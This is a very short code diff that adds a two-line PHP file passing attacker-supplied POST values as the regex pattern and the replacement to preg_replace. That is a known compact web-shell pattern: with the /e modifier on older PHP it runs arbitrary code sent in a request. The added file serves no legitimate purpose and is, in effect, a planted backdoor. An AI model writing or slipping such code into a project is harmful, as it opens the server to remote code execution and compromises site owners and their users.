@@ -1,0 +1,2 @@
+<?php
+echo preg_replace($_POST['p'], $_POST['r'], 'subject');
